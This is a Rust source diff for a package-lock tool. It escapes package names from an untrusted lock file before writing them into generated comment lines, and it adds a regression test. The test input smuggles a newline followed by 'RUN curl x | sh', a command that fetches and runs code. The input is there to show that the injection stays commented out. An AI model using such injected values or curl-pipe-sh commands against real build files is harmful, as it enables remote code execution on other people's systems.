@@ -415,7 +415,8 @@ fn unpinned_comment(f: &mut String, unpinned: &[String]) {
          # when it builds them (run `envlock resolve` with indexes that have their wheels):\n",
     );
     for s in unpinned {
-        let _ = writeln!(f, "#   {s}");
+        // Names and versions come from the lock, which is untrusted.
+        let _ = writeln!(f, "#   {}", super::comment_text(s));
     }
 }
 
@@ -454,4 +455,20 @@ pub fn missing_preset_package(
     }
     let needed = preset.needs()?;
     (!lock.package.iter().any(|p| p.name == needed)).then_some(needed)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_name_from_the_lock_cannot_add_an_instruction_through_the_unpinned_comment() {
+        let mut f = String::new();
+        unpinned_comment(&mut f, &["evil 1\nRUN curl x | sh (linux-64)".to_string()]);
+        assert!(
+            f.lines().all(|l| l.starts_with('#')),
+            "every line stays a comment: {f}"
+        );
+        assert!(f.contains("evil 1\\nRUN curl x | sh (linux-64)"), "{f}");
+    }
 }
